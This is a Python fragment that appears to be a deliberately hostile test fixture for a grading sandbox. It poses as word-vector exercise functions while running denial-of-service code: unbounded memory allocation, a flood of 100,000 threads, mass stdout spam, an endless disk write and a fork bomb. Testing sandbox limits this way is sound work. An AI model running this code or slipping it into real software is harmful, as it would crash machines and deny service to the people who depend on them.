# ruff: noqa - a fragment appended to the solution, with placeholders; hostile on purpose
# ---- hostile part: exhausting -------------------------------------------------------------
# Unbounded memory, a flood of threads, a huge file, tens of MB of prints (with a right
# answer: printing is allowed, only truncated), and a fork bomb.
import os as _os
import sys as _sys
import threading as _threading
import time as _time


def naive_softmax_loss_and_gradient(v_c, o, U):
    blocks = []
    while True:  # ever more address space (untouched zero pages: quick on any machine)
        blocks.append(np.zeros(8 << 20))


def neg_sampling_loss_and_gradient(v_c, o, U, neg_indices):
    threads = []
    for _ in range(100_000):
        t = _threading.Thread(target=_time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)


_honest_noise = noise_distribution


def noise_distribution(counts, power=0.75):
    for _ in range(12):
        _sys.stdout.write("spam " * (1 << 18))
    _sys.stdout.flush()
    return _honest_noise(counts, power)


def glove_loss(W, W_tilde, b, b_tilde, X, x_max=100.0, alpha=0.75):
    chunk = b"\0" * (1 << 20)
    with open("huge.bin", "wb") as fh:
        while True:
            fh.write(chunk)


def analogy(E, vocab, a, b, c):
    if _os.fork() == 0:
        _os.setsid()
        while True:
            try:
                _os.fork()
            except OSError:
                _time.sleep(0.01)
    _time.sleep(0.5)
    return a
